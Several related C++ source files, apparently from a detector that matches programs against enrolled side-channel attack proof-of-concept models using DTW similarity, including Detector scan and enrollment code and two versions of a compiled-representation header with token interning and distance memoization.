  bool compiled_ok = use_compiled_ && repo_size > 0;
  CompiledTarget target;
  if (compiled_ok) {
    try {
      target = compiled_.compile_target(target_sequence);
    } catch (const support::fp::FailpointError&) {
      static support::Counter& fallbacks =
          support::Registry::global().counter("scan.compiled_fallback");
      fallbacks.add();
      compiled_ok = false;
    }
  }

  // use_simd() folds into the config as the kernel selection; every DP
  // below (exact, early-abandoned, string or compiled) honors it.
  const DtwConfig dtw = scan_dtw_config();

  std::vector<ModelScore> scores;
  scores.reserve(repo_size);
  if (use_index_ && repo_size > 0) {
    // Triage + lower-bound cascade (core/scan_index.h): sublinear in the
    // exact-DTW count, bit-identical verdict/best/winner either way.
    std::vector<CascadeScore> cascade;
    if (compiled_ok) {
      ElementDistanceMemo memo(target.unique_elements,
                               compiled_.unique_elements());
      ElementDistanceMemo::Stats stats;
      const std::vector<std::uint32_t> order =
          index_.scan_order(target.seq.features, target.seq.size());
      cascade =
          cascade_scan(target, compiled_, order, memo, dtw, nullptr, &stats);
      flush_memo_stats(stats);
    } else {
      const SequenceFeatures tf =
          compute_sequence_features(target_sequence, dtw.distance);
      const std::vector<std::uint32_t> order =
          index_.scan_order(tf, target_sequence.size());
      cascade = cascade_scan(target_sequence, repository(), order, tf, dtw);
    }
    for (std::size_t j = 0; j < repo_size; ++j) {
      ModelScore s;
      s.model_name = model_name(j);
      s.family = model_family(j);
      s.score = cascade[j].score;
      s.pruned = cascade[j].stage != CascadeStage::kExact;
      scores.push_back(std::move(s));
    }
    return finalize(std::move(scores), threshold_);
  }
  if (compiled_ok) {
    ElementDistanceMemo memo(target.unique_elements,
                             compiled_.unique_elements());
    ElementDistanceMemo::Stats stats;
    for (std::size_t j = 0; j < repo_size; ++j) {
      ModelScore s;
      s.model_name = model_name(j);
      s.family = model_family(j);
      s.score = compiled_similarity(target, compiled_, j, memo, dtw, &stats);
      scores.push_back(std::move(s));
    }
    flush_memo_stats(stats);
  } else {
    for (const AttackModel& model : repository()) {
      ModelScore s;
      s.model_name = model.name;
      s.family = model.family;
      s.score = similarity(target_sequence, model.sequence, dtw);
      scores.push_back(std::move(s));
    }
  }
  return finalize(std::move(scores), threshold_);
}

Detection Detector::finalize(std::vector<ModelScore> scores,
                             double threshold) {
  Detection det;
  det.scores = std::move(scores);
  // stable_sort: equal scores keep enrollment order, so the reduction is
  // deterministic regardless of how the scores were produced.
  std::stable_sort(det.scores.begin(), det.scores.end(),
                   [](const ModelScore& a, const ModelScore& b) {
                     return a.score > b.score;
                   });
  if (!det.scores.empty()) {
    det.best_score = det.scores.front().score;
    if (det.best_score >= threshold) det.verdict = det.scores.front().family;
  }
  // Every reduction path (serial, batch worker, scenario oracle) funnels
  // through here, so this is the one verdict-emission point. The score
  // goes out as raw IEEE-754 bits: journal readers can compare verdicts
  // bit-exactly, the same guarantee the differential tests enforce.
  support::events::emit_scan_verdict(
      static_cast<std::uint8_t>(det.verdict), det.best_score,
      det.scores.empty() ? std::string_view{}
                         : std::string_view(det.scores.front().model_name));
  return det;
}

}  // namespace scag::core
