#include "core/detector.h"

#include <algorithm>
#include <stdexcept>

#include "support/failpoint.h"
#include "support/metrics.h"
#include "support/trace.h"

namespace scag::core {

void Detector::enroll(const isa::Program& poc, Family family) {
  if (family == Family::kBenign)
    throw std::invalid_argument("Detector::enroll: enroll attack PoCs only");
  enroll(builder_.build(poc, family));
}

void Detector::enroll(AttackModel model) {
  if (model.family == Family::kBenign)
    throw std::invalid_argument("Detector::enroll: enroll attack models only");
  repository_.push_back(std::move(model));
  compiled_.add(repository_.back().sequence);
  // The compiled form just computed this model's envelope features; the
  // triage index summarizes them further, so enrollment pays no extra
  // sequence sweep.
  const AttackModel& m = repository_.back();
  index_.add(compiled_.model(repository_.size() - 1).features,
             m.sequence.size(), m.family);
}

Detection Detector::scan(const isa::Program& target) const {
  const AttackModel m = builder_.build(target);
  return scan(m.sequence);
}

Detection Detector::scan(const CstBbs& target_sequence) const {
  static support::Counter& c_requests =
      support::Registry::global().counter("scan.requests");
  static support::Counter& c_pairs =
      support::Registry::global().counter("scan.pairs");
  static support::Histogram& h_latency =
      support::Registry::global().histogram("scan.latency_ns");
  support::TraceScope span("scan.dtw");
  support::ScopedTimer timer(h_latency);
  if (support::fp::hit("detector.scan"))
    throw support::fp::FailpointError("detector.scan");
  c_requests.add();
  c_pairs.add(repository_.size());

  // Target compilation is the one fast-path stage that can fail on its
  // own (failpoint-injected today, defensive tomorrow); the string kernels
  // are bit-identical, so degrade to them rather than failing the scan.
  bool compiled_ok = use_compiled_ && !repository_.empty();
  CompiledTarget target;
  if (compiled_ok) {
    try {
      target = compiled_.compile_target(target_sequence);
    } catch (const support::fp::FailpointError&) {
      static support::Counter& fallbacks =
          support::Registry::global().counter("scan.compiled_fallback");
      fallbacks.add();
      compiled_ok = false;
    }
  }

  // use_simd() folds into the config as the kernel selection; every DP
  // below (exact, early-abandoned, string or compiled) honors it.
  const DtwConfig dtw = scan_dtw_config();

  std::vector<ModelScore> scores;
  scores.reserve(repository_.size());
  if (use_index_ && !repository_.empty()) {
    // Triage + lower-bound cascade (core/scan_index.h): sublinear in the
    // exact-DTW count, bit-identical verdict/best/winner either way.
    std::vector<CascadeScore> cascade;
    if (compiled_ok) {
      ElementDistanceMemo memo(target.unique_elements,
                               compiled_.unique_elements());
      ElementDistanceMemo::Stats stats;
      const std::vector<std::uint32_t> order =
          index_.scan_order(target.seq.features, target.seq.size());
      cascade =
          cascade_scan(target, compiled_, order, memo, dtw, nullptr, &stats);
      flush_memo_stats(stats);
    } else {
      const SequenceFeatures tf =
          compute_sequence_features(target_sequence, dtw.distance);
      const std::vector<std::uint32_t> order =
          index_.scan_order(tf, target_sequence.size());
      cascade = cascade_scan(target_sequence, repository_, order, tf, dtw);
    }
    for (std::size_t j = 0; j < repository_.size(); ++j) {
      ModelScore s;
      s.model_name = repository_[j].name;
      s.family = repository_[j].family;
      s.score = cascade[j].score;
      s.pruned = cascade[j].stage != CascadeStage::kExact;
      scores.push_back(std::move(s));
    }
    return finalize(std::move(scores), threshold_);
  }
  if (compiled_ok) {
    ElementDistanceMemo memo(target.unique_elements,
                             compiled_.unique_elements());
    ElementDistanceMemo::Stats stats;
    for (std::size_t j = 0; j < repository_.size(); ++j) {
      ModelScore s;
      s.model_name = repository_[j].name;
      s.family = repository_[j].family;
      s.score = compiled_similarity(target, compiled_, j, memo, dtw, &stats);
      scores.push_back(std::move(s));
    }
    flush_memo_stats(stats);
  } else {
    for (const AttackModel& model : repository_) {
      ModelScore s;
      s.model_name = model.name;
      s.family = model.family;
      s.score = similarity(target_sequence, model.sequence, dtw);
      scores.push_back(std::move(s));
    }
  }
  return finalize(std::move(scores), threshold_);
}

Detection Detector::finalize(std::vector<ModelScore> scores,
                             double threshold) {
  Detection det;
  det.scores = std::move(scores);
  // stable_sort: equal scores keep enrollment order, so the reduction is
  // deterministic regardless of how the scores were produced.
  std::stable_sort(det.scores.begin(), det.scores.end(),
                   [](const ModelScore& a, const ModelScore& b) {
                     return a.score > b.score;
                   });
  if (!det.scores.empty()) {
    det.best_score = det.scores.front().score;
    if (det.best_score >= threshold) det.verdict = det.scores.front().family;
  }
  return det;
}

}  // namespace scag::core
