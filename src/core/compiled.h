// Compiled CST-BBS representation: the scan-time fast path.
//
// The string-based distance kernels (core/distance.h) pay per DP cell for
// work that never changes between pairs: hashing/comparing token strings,
// looking up semantic weights by string, re-deriving Cst::change(), and
// recomputing the lower-bound envelope features for every (target, model)
// pair. Signature scanners avoid this by *compiling* signatures once at
// enrollment; this module does the same for CST-BBS models:
//
//   - TokenInterner: token string -> dense uint32 id, with per-id weight
//     and SemanticClass tables replicated from isa::semantic_token_weight /
//     semantic_token_class at intern time. Has a second, mapped mode where
//     the tables live in a scag-store-v1 mapping (core/store.h) and find()
//     probes a serialized open-addressing table instead of the hash map.
//   - CompiledSeq: a non-owning SoA *view* of one sequence — interned token
//     ids (offset/length spans), precomputed Cst::change(), semantic token
//     mass, a dedup id per element, and the envelope features the DTW lower
//     bound needs. The backing arrays live either in CompiledRepository's
//     flat arenas (enrollment mode) or directly in a read-only mmap of a
//     model store (zero parse, zero compile, zero per-worker copies).
//   - CompiledRepository: the frozen compiled form of a Detector's model
//     repository, grown incrementally at enrollment — or constructed in one
//     step over a ModelStore mapping. compile_target() is const and
//     thread-safe: unseen target tokens extend the id space locally (per
//     target) without mutating the shared interner.
//   - ElementDistanceMemo: a per-scan memo of unique-element-pair
//     distances. Normalization erases registers/immediates, so distinct
//     blocks frequently share identical content within a sequence and
//     across the repository; every unique (target element, repo element)
//     pair pays for its weighted Levenshtein once per scan.
//
// Hard contract (tests/test_compiled_kernel.cpp, tests/test_store.cpp):
// every distance, similarity, lower bound, pruning decision, and
// Detector/BatchDetector verdict produced through the compiled path —
// enrolled OR store-backed — is BIT-IDENTICAL to the string path. The
// kernels replicate the exact floating-point expression trees of
// core/distance.cpp and share the finishing arithmetic with dtw.cpp via
// core/dtw_internal.h.
//
// Constraint: a compiled form is specific to its DistanceConfig alphabet.
// DtwConfigs passed to the query functions may vary normalization, band,
// scale, gamma, penalty, and is_weight — but one ElementDistanceMemo must
// only ever see one DistanceConfig (element distances depend on it).
#pragma once

#include <atomic>
#include <cstdint>
#include <limits>
#include <string>
#include <string_view>
#include <unordered_map>
#include <vector>

#include "core/dtw.h"
#include "core/model.h"

namespace scag::core {

using TokenId = std::uint32_t;

/// FNV-1a over raw bytes. Single source of truth for the store's token
/// probe-table hash and section checksums: the packer and the mapped
/// reader must agree bit-for-bit (core/store.cpp, TokenInterner::find).
inline std::uint64_t fnv1a64(const void* data, std::size_t n,
                             std::uint64_t h = 1469598103934665603ull) {
  const auto* p = static_cast<const unsigned char*>(data);
  for (std::size_t i = 0; i < n; ++i) {
    h ^= p[i];
    h *= 1099511628211ull;
  }
  return h;
}

/// Minimal non-owning array view (std::span stand-in kept deliberately
/// tiny: const access only, no subviews).
template <class T>
struct Span {
  const T* ptr = nullptr;
  std::size_t len = 0;

  const T& operator[](std::size_t i) const { return ptr[i]; }
  std::size_t size() const { return len; }
  bool empty() const { return len == 0; }
  const T* data() const { return ptr; }
  const T* begin() const { return ptr; }
  const T* end() const { return ptr + len; }
};

/// Non-owning counterpart of SequenceFeatures (core/dtw.h): same fields,
/// but the per-element arrays are views into an arena or a store mapping.
/// The lower-bound arithmetic in core/dtw_internal.h is templated over
/// either form.
struct FeaturesView {
  Span<double> csp;
  Span<double> count;
  Span<double> mass;
  double csp_lo = std::numeric_limits<double>::infinity();
  double csp_hi = -std::numeric_limits<double>::infinity();
  double count_lo = std::numeric_limits<double>::infinity();
  double count_hi = -std::numeric_limits<double>::infinity();
  double mass_hi = 0.0;
};

/// View of owning features (the per-target path).
inline FeaturesView as_features_view(const SequenceFeatures& f) {
  FeaturesView v;
  v.csp = {f.csp.data(), f.csp.size()};
  v.count = {f.count.data(), f.count.size()};
  v.mass = {f.mass.data(), f.mass.size()};
  v.csp_lo = f.csp_lo;
  v.csp_hi = f.csp_hi;
  v.count_lo = f.count_lo;
  v.count_hi = f.count_hi;
  v.mass_hi = f.mass_hi;
  return v;
}

/// Flat SoA view of one CST-BBS. Token ids of element i are
/// tokens[offsets[i] .. offsets[i+1]); `offsets` has size() + 1 entries
/// and its values are absolute positions in the `tokens` base array (so
/// consecutive models can share one arena-wide offsets table).
/// features.csp/count/mass double as the per-element kernel inputs
/// (change, token count, weight mass). Non-owning: valid only while the
/// backing CompiledRepository arena / CompiledTarget storage / store
/// mapping is alive.
struct CompiledSeq {
  const TokenId* tokens = nullptr;
  const std::uint32_t* offsets = nullptr;  // size() + 1 entries, absolute
  Span<std::uint32_t> elem;                // dedup id per element
  FeaturesView features;

  std::size_t size() const { return elem.size(); }
  const TokenId* token_begin(std::size_t i) const {
    return tokens + offsets[i];
  }
  std::size_t token_count(std::size_t i) const {
    return offsets[i + 1] - offsets[i];
  }
};

/// A target compiled against a CompiledRepository. Unseen tokens got local
/// ids appended after the repository's; `weight`/`cls` are the combined
/// per-id tables covering both (empty in kFullTokens mode, where equality
/// on ids is all the kernel needs). Owns its backing storage; `seq` views
/// into it, so the type is movable (vector moves keep heap buffers alive)
/// but deliberately not copyable.
struct CompiledTarget {
  CompiledSeq seq;
  std::uint32_t unique_elements = 0;  // target-side dedup space size
  std::vector<double> weight;
  std::vector<std::uint8_t> cls;

  // Backing storage for `seq`'s views.
  std::vector<TokenId> tok_store;
  std::vector<std::uint32_t> off_store;
  std::vector<std::uint32_t> elem_store;
  SequenceFeatures feat_store;

  CompiledTarget() = default;
  CompiledTarget(const CompiledTarget&) = delete;
  CompiledTarget& operator=(const CompiledTarget&) = delete;
  CompiledTarget(CompiledTarget&&) noexcept = default;
  CompiledTarget& operator=(CompiledTarget&&) noexcept = default;

  /// Re-points `seq` at the owned storage (after the owned vectors are
  /// filled or replaced).
  void rebind_views() {
    seq.tokens = tok_store.data();
    seq.offsets = off_store.data();
    seq.elem = {elem_store.data(), elem_store.size()};
    seq.features = as_features_view(feat_store);
  }
};

/// The serialized token tables of a scag-store-v1 mapping, as raw typed
/// pointers (validated by core/store.cpp before they get here). `probe` is
/// an open-addressing hash table of capacity probe_mask + 1 (a power of
/// two) slots holding token ids or the 0xFFFFFFFF empty sentinel, built
/// with fnv1a64 over the token bytes and linear probing.
struct TokenTableView {
  const char* blob = nullptr;
  const std::uint32_t* str_off = nullptr;  // count + 1 entries
  const double* weight = nullptr;
  const std::uint8_t* cls = nullptr;
  const std::uint32_t* probe = nullptr;
  std::uint64_t probe_mask = 0;
  std::uint32_t count = 0;
};

/// Maps token strings to dense ids and element contents to dedup ids.
/// Owned mode (enrollment): a hash map plus weight/class vectors, mutated
/// only while models are added. Mapped mode (store-backed): all tables
/// live in the read-only mapping; intern() is forbidden, find() probes the
/// serialized table. All lookups used during scans are const.
class TokenInterner {
 public:
  TokenId intern(const std::string& token);
  /// kNoToken when the token was never interned.
  static constexpr TokenId kNoToken = std::numeric_limits<TokenId>::max();
  TokenId find(const std::string& token) const;
  std::size_t size() const { return mapped_ ? view_.count : weight_.size(); }
  bool mapped() const { return mapped_; }

  /// Contiguous per-id attribute tables, either mode.
  const double* weight_data() const {
    return mapped_ ? view_.weight : weight_.data();
  }
  const std::uint8_t* class_data() const {
    return mapped_ ? view_.cls : cls_.data();
  }

  /// Owned-mode vector accessors (tests and the store packer).
  const std::vector<double>& weights() const { return weight_; }
  const std::vector<std::uint8_t>& classes() const { return cls_; }

  /// id -> token string. Views into the map keys (owned) or the mapping
  /// (mapped); stable while the interner / store is alive and unmodified.
  std::vector<std::string_view> strings_by_id() const;
  std::string_view string_of(TokenId id) const;

  /// Switches to mapped mode over a validated store view.
  void attach(const TokenTableView& view);

  /// Per-token attributes for a string that is not interned here (used by
  /// CompiledTarget's local extension).
  static double weight_of(const std::string& token);
  static std::uint8_t class_of(const std::string& token);

 private:
  std::unordered_map<std::string, TokenId> ids_;
  std::vector<double> weight_;
  std::vector<std::uint8_t> cls_;
  bool mapped_ = false;
  TokenTableView view_;
};

/// The compiled form of a Detector's repository plus the shared interner
/// and element-dedup registry. Two modes:
///
///   - Enrollment: grown by add(); token ids, element ids, and all
///     per-element data land in flat owned arenas (one allocation group
///     for the whole repository) and `models_` holds views into them.
///   - Store-backed: constructed from a StoreView whose pointers reach
///     into a read-only scag-store-v1 mapping. add() throws — the mapping
///     is frozen; re-pack the store to change it.
///
/// Immutable (and safe to share across scan threads) once enrollment is
/// done, in either mode.
class CompiledRepository {
 public:
  explicit CompiledRepository(DistanceConfig dc = {}) : dc_(dc) {}

  // Copies must re-point the enrollment-mode views at the copy's own
  // arenas (the memberwise copy would leave them aimed at the source's);
  // store-backed views point into the external mapping and copy as-is.
  // Moves transfer the arena heap buffers, so the views stay valid.
  CompiledRepository(const CompiledRepository& o)
      : dc_(o.dc_),
        interner_(o.interner_),
        elem_ids_(o.elem_ids_),
        frozen_(o.frozen_),
        frozen_unique_(o.frozen_unique_),
        tok_arena_(o.tok_arena_),
        off_arena_(o.off_arena_),
        elem_arena_(o.elem_arena_),
        csp_arena_(o.csp_arena_),
        count_arena_(o.count_arena_),
        mass_arena_(o.mass_arena_),
        extents_(o.extents_),
        models_(o.models_) {
    if (!frozen_) rebuild_views();
  }
  CompiledRepository& operator=(const CompiledRepository& o) {
    if (this != &o) *this = CompiledRepository(o);  // copy, then move
    return *this;
  }
  CompiledRepository(CompiledRepository&&) noexcept = default;
  CompiledRepository& operator=(CompiledRepository&&) noexcept = default;

  /// Everything a store mapping provides: token tables, per-model views,
  /// and the size of the global element-dedup space. Assembled by
  /// ModelStore::compiled_view() (core/store.h) after validation.
  struct StoreView {
    DistanceConfig dc;
    TokenTableView tokens;
    std::vector<CompiledSeq> models;
    std::uint32_t unique_elements = 0;
  };
  explicit CompiledRepository(StoreView view);

  const DistanceConfig& distance_config() const { return dc_; }
  std::size_t num_models() const { return models_.size(); }
  const CompiledSeq& model(std::size_t j) const { return models_[j]; }
  const TokenInterner& interner() const { return interner_; }
  /// True when this repository scans directly out of a store mapping.
  bool store_backed() const { return frozen_; }
  /// Size of the repository-side element dedup space (= the memo's inner
  /// dimension).
  std::uint32_t unique_elements() const {
    return frozen_ ? frozen_unique_
                   : static_cast<std::uint32_t>(elem_ids_.size());
  }

  /// Compiles and appends one model sequence (enrollment path; also the
  /// serialize reload path via Detector::enroll). Throws std::logic_error
  /// on a store-backed repository.
  void add(const CstBbs& sequence);

  /// Compiles a scan target against the frozen repository. const and
  /// thread-safe: never mutates shared state.
  CompiledTarget compile_target(const CstBbs& sequence) const;

 private:
  struct ElemKey {
    std::vector<TokenId> tokens;
    std::uint64_t change_bits = 0;
    bool operator==(const ElemKey&) const = default;
  };
  struct ElemKeyHash {
    std::size_t operator()(const ElemKey& k) const;
  };
  using ElemRegistry = std::unordered_map<ElemKey, std::uint32_t, ElemKeyHash>;

  /// Where model k's data lives in the arenas, plus its envelope scalars.
  struct ModelExtent {
    std::uint32_t elem_start = 0;
    std::uint32_t elem_count = 0;
    double csp_lo = 0, csp_hi = 0, count_lo = 0, count_hi = 0, mass_hi = 0;
  };

  void rebuild_views();

  DistanceConfig dc_;
  TokenInterner interner_;
  ElemRegistry elem_ids_;
  bool frozen_ = false;
  std::uint32_t frozen_unique_ = 0;

  // Enrollment-mode arenas. off_arena_ has one entry per element plus a
  // leading 0: model k's offsets pointer is &off_arena_[elem_start]
  // because consecutive models share the boundary entry (end of k ==
  // start of k + 1).
  std::vector<TokenId> tok_arena_;
  std::vector<std::uint32_t> off_arena_{0};
  std::vector<std::uint32_t> elem_arena_;
  std::vector<double> csp_arena_, count_arena_, mass_arena_;
  std::vector<ModelExtent> extents_;

  std::vector<CompiledSeq> models_;  // views into arenas or the mapping
};

/// Per-scan memo of unique-element-pair distances, keyed by
/// (target dedup id, repository dedup id). Cells are relaxed atomics with
/// a NaN empty sentinel: the element distance is a deterministic pure
/// function, so concurrent fills by several scan threads store identical
/// bits (at worst duplicating a computation).
class ElementDistanceMemo {
 public:
  ElementDistanceMemo() = default;
  ElementDistanceMemo(std::uint32_t target_unique, std::uint32_t repo_unique);
  ElementDistanceMemo(ElementDistanceMemo&&) noexcept = default;
  ElementDistanceMemo& operator=(ElementDistanceMemo&&) noexcept = default;

  struct Stats {
    std::uint64_t hits = 0;
    std::uint64_t misses = 0;
  };

  double load(std::uint32_t tu, std::uint32_t ru) const {
    return cells_[static_cast<std::size_t>(tu) * stride_ + ru].load(
        std::memory_order_relaxed);
  }
  void store(std::uint32_t tu, std::uint32_t ru, double d) {
    cells_[static_cast<std::size_t>(tu) * stride_ + ru].store(
        d, std::memory_order_relaxed);
  }

  /// Row stride and raw cell view for the vectorized anti-diagonal gather
  /// (core/simd.h pair_gather). Each gather lane is one aligned 8-byte
  /// load, which the target ISAs perform indivisibly, so a concurrent
  /// fill is observed exactly like a relaxed load(): either the NaN
  /// sentinel (the lane is then patched through the scalar miss path) or
  /// the full written value — identical bits either way, since fills are
  /// pure-function results.
  std::size_t stride() const { return stride_; }
  const double* raw() const {
    static_assert(sizeof(std::atomic<double>) == sizeof(double) &&
                  std::atomic<double>::is_always_lock_free);
    return reinterpret_cast<const double*>(cells_.data());
  }

 private:
  std::size_t stride_ = 0;
  std::vector<std::atomic<double>> cells_;
};

// ---------------------------------------------------------------------------
// Compiled query kernels. All are bit-identical to their string
// counterparts in core/dtw.h for the same inputs; `memo_stats` (optional)
// accumulates memo hit/miss counts which the Detector paths flush to the
// metrics registry ("compiled.memo_hits" / "compiled.memo_misses").

/// == cst_distance(target[i], model j's element[k], config) — memoized.
double compiled_element_distance(const CompiledTarget& target, std::size_t i,
                                 const CompiledRepository& repo,
                                 std::size_t model_index, std::size_t k,
                                 ElementDistanceMemo& memo,
                                 const DistanceConfig& config,
                                 ElementDistanceMemo::Stats* memo_stats);

/// == cst_bbs_distance(target, model, config).
double compiled_cst_bbs_distance(const CompiledTarget& target,
                                 const CompiledRepository& repo,
                                 std::size_t model_index,
                                 ElementDistanceMemo& memo,
                                 const DtwConfig& config,
                                 ElementDistanceMemo::Stats* memo_stats);

/// == cst_bbs_distance_lower_bound(target, model, config), with both
/// sides' envelope features precomputed at compile time.
double compiled_cst_bbs_distance_lower_bound(
    const CompiledTarget& target, const CompiledRepository& repo,
    std::size_t model_index, ElementDistanceMemo& memo,
    const DtwConfig& config, ElementDistanceMemo::Stats* memo_stats);

/// == cst_bbs_distance_lower_bound_kim(target, model, config): the O(1)
/// endpoints-only stage of the scan cascade. The two element distances it
/// pays go through the memo, so a later envelope/DP stage reuses them.
double compiled_cst_bbs_distance_lower_bound_kim(
    const CompiledTarget& target, const CompiledRepository& repo,
    std::size_t model_index, ElementDistanceMemo& memo,
    const DtwConfig& config, ElementDistanceMemo::Stats* memo_stats);

/// == similarity(target, model, config).
double compiled_similarity(const CompiledTarget& target,
                           const CompiledRepository& repo,
                           std::size_t model_index, ElementDistanceMemo& memo,
                           const DtwConfig& config,
                           ElementDistanceMemo::Stats* memo_stats = nullptr);

/// == bounded_similarity(target, model, min_similarity, config): same
/// scores AND the same PruneKind decisions.
BoundedScore compiled_bounded_similarity(
    const CompiledTarget& target, const CompiledRepository& repo,
    std::size_t model_index, ElementDistanceMemo& memo, double min_similarity,
    const DtwConfig& config,
    ElementDistanceMemo::Stats* memo_stats = nullptr);

/// Flushes memo statistics to the metrics registry counters
/// "compiled.memo_hits" / "compiled.memo_misses".
void flush_memo_stats(const ElementDistanceMemo::Stats& stats);

}  // namespace scag::core
