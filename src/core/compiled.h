// Compiled CST-BBS representation: the scan-time fast path.
//
// The string-based distance kernels (core/distance.h) pay per DP cell for
// work that never changes between pairs: hashing/comparing token strings,
// looking up semantic weights by string, re-deriving Cst::change(), and
// recomputing the lower-bound envelope features for every (target, model)
// pair. Signature scanners avoid this by *compiling* signatures once at
// enrollment; this module does the same for CST-BBS models:
//
//   - TokenInterner: token string -> dense uint32 id, with per-id weight
//     and SemanticClass tables replicated from isa::semantic_token_weight /
//     semantic_token_class at intern time.
//   - CompiledSeq: flat SoA arrays per sequence — interned token ids
//     (offset/length spans), precomputed Cst::change(), semantic token
//     mass, a dedup id per element, and the SequenceFeatures the DTW lower
//     bound needs — all computed once instead of per pair.
//   - CompiledRepository: the frozen compiled form of a Detector's model
//     repository, grown incrementally at enrollment. compile_target() is
//     const and thread-safe: unseen target tokens extend the id space
//     locally (per target) without mutating the shared interner.
//   - ElementDistanceMemo: a per-scan memo of unique-element-pair
//     distances. Normalization erases registers/immediates, so distinct
//     blocks frequently share identical content within a sequence and
//     across the repository; every unique (target element, repo element)
//     pair pays for its weighted Levenshtein once per scan.
//
// Hard contract (tests/test_compiled_kernel.cpp): every distance,
// similarity, lower bound, pruning decision, and Detector/BatchDetector
// verdict produced through the compiled path is BIT-IDENTICAL to the
// string path. The kernels replicate the exact floating-point expression
// trees of core/distance.cpp and share the finishing arithmetic with
// dtw.cpp via core/dtw_internal.h.
//
// Constraint: a compiled form is specific to its DistanceConfig alphabet.
// DtwConfigs passed to the query functions may vary normalization, band,
// scale, gamma, penalty, and is_weight — but one ElementDistanceMemo must
// only ever see one DistanceConfig (element distances depend on it).
#pragma once

#include <atomic>
#include <cstdint>
#include <limits>
#include <string>
#include <unordered_map>
#include <vector>

#include "core/dtw.h"
#include "core/model.h"

namespace scag::core {

using TokenId = std::uint32_t;

/// Flat SoA form of one CST-BBS. Token ids of element i are
/// tokens[offsets[i] .. offsets[i+1]). features.csp/count/mass double as
/// the per-element kernel inputs (change, token count, weight mass).
struct CompiledSeq {
  std::vector<TokenId> tokens;
  std::vector<std::uint32_t> offsets{0};  // size() + 1 entries
  std::vector<std::uint32_t> elem;        // dedup id per element
  SequenceFeatures features;

  std::size_t size() const { return elem.size(); }
  const TokenId* token_begin(std::size_t i) const {
    return tokens.data() + offsets[i];
  }
  std::size_t token_count(std::size_t i) const {
    return offsets[i + 1] - offsets[i];
  }
};

/// A target compiled against a CompiledRepository. Unseen tokens got local
/// ids appended after the repository's; `weight`/`cls` are the combined
/// per-id tables covering both (empty in kFullTokens mode, where equality
/// on ids is all the kernel needs).
struct CompiledTarget {
  CompiledSeq seq;
  std::uint32_t unique_elements = 0;  // target-side dedup space size
  std::vector<double> weight;
  std::vector<std::uint8_t> cls;
};

/// Maps token strings to dense ids and element contents to dedup ids.
/// Mutated only while models are added; all lookups used during scans are
/// const.
class TokenInterner {
 public:
  TokenId intern(const std::string& token);
  /// kNoToken when the token was never interned.
  static constexpr TokenId kNoToken = std::numeric_limits<TokenId>::max();
  TokenId find(const std::string& token) const;
  std::size_t size() const { return weight_.size(); }

  const std::vector<double>& weights() const { return weight_; }
  const std::vector<std::uint8_t>& classes() const { return cls_; }

  /// Per-token attributes for a string that is not interned here (used by
  /// CompiledTarget's local extension).
  static double weight_of(const std::string& token);
  static std::uint8_t class_of(const std::string& token);

 private:
  std::unordered_map<std::string, TokenId> ids_;
  std::vector<double> weight_;
  std::vector<std::uint8_t> cls_;
};

/// The compiled form of a Detector's repository plus the shared interner
/// and element-dedup registry. Grown by add() at enrollment; immutable
/// (and safe to share across scan threads) afterwards.
class CompiledRepository {
 public:
  explicit CompiledRepository(DistanceConfig dc = {}) : dc_(dc) {}

  const DistanceConfig& distance_config() const { return dc_; }
  std::size_t num_models() const { return models_.size(); }
  const CompiledSeq& model(std::size_t j) const { return models_[j]; }
  const TokenInterner& interner() const { return interner_; }
  /// Size of the repository-side element dedup space (= the memo's inner
  /// dimension).
  std::uint32_t unique_elements() const {
    return static_cast<std::uint32_t>(elem_ids_.size());
  }

  /// Compiles and appends one model sequence (enrollment path; also the
  /// serialize reload path via Detector::enroll).
  void add(const CstBbs& sequence);

  /// Compiles a scan target against the frozen repository. const and
  /// thread-safe: never mutates shared state.
  CompiledTarget compile_target(const CstBbs& sequence) const;

 private:
  struct ElemKey {
    std::vector<TokenId> tokens;
    std::uint64_t change_bits = 0;
    bool operator==(const ElemKey&) const = default;
  };
  struct ElemKeyHash {
    std::size_t operator()(const ElemKey& k) const;
  };
  using ElemRegistry = std::unordered_map<ElemKey, std::uint32_t, ElemKeyHash>;

  DistanceConfig dc_;
  TokenInterner interner_;
  ElemRegistry elem_ids_;
  std::vector<CompiledSeq> models_;
};

/// Per-scan memo of unique-element-pair distances, keyed by
/// (target dedup id, repository dedup id). Cells are relaxed atomics with
/// a NaN empty sentinel: the element distance is a deterministic pure
/// function, so concurrent fills by several scan threads store identical
/// bits (at worst duplicating a computation).
class ElementDistanceMemo {
 public:
  ElementDistanceMemo() = default;
  ElementDistanceMemo(std::uint32_t target_unique, std::uint32_t repo_unique);
  ElementDistanceMemo(ElementDistanceMemo&&) noexcept = default;
  ElementDistanceMemo& operator=(ElementDistanceMemo&&) noexcept = default;

  struct Stats {
    std::uint64_t hits = 0;
    std::uint64_t misses = 0;
  };

  double load(std::uint32_t tu, std::uint32_t ru) const {
    return cells_[static_cast<std::size_t>(tu) * stride_ + ru].load(
        std::memory_order_relaxed);
  }
  void store(std::uint32_t tu, std::uint32_t ru, double d) {
    cells_[static_cast<std::size_t>(tu) * stride_ + ru].store(
        d, std::memory_order_relaxed);
  }

  /// Row stride and raw cell view for the vectorized anti-diagonal gather
  /// (core/simd.h pair_gather). Each gather lane is one aligned 8-byte
  /// load, which the target ISAs perform indivisibly, so a concurrent
  /// fill is observed exactly like a relaxed load(): either the NaN
  /// sentinel (the lane is then patched through the scalar miss path) or
  /// the full written value — identical bits either way, since fills are
  /// pure-function results.
  std::size_t stride() const { return stride_; }
  const double* raw() const {
    static_assert(sizeof(std::atomic<double>) == sizeof(double) &&
                  std::atomic<double>::is_always_lock_free);
    return reinterpret_cast<const double*>(cells_.data());
  }

 private:
  std::size_t stride_ = 0;
  std::vector<std::atomic<double>> cells_;
};

// ---------------------------------------------------------------------------
// Compiled query kernels. All are bit-identical to their string
// counterparts in core/dtw.h for the same inputs; `memo_stats` (optional)
// accumulates memo hit/miss counts which the Detector paths flush to the
// metrics registry ("compiled.memo_hits" / "compiled.memo_misses").

/// == cst_distance(target[i], model j's element[k], config) — memoized.
double compiled_element_distance(const CompiledTarget& target, std::size_t i,
                                 const CompiledRepository& repo,
                                 std::size_t model_index, std::size_t k,
                                 ElementDistanceMemo& memo,
                                 const DistanceConfig& config,
                                 ElementDistanceMemo::Stats* memo_stats);

/// == cst_bbs_distance(target, model, config).
double compiled_cst_bbs_distance(const CompiledTarget& target,
                                 const CompiledRepository& repo,
                                 std::size_t model_index,
                                 ElementDistanceMemo& memo,
                                 const DtwConfig& config,
                                 ElementDistanceMemo::Stats* memo_stats);

/// == cst_bbs_distance_lower_bound(target, model, config), with both
/// sides' envelope features precomputed at compile time.
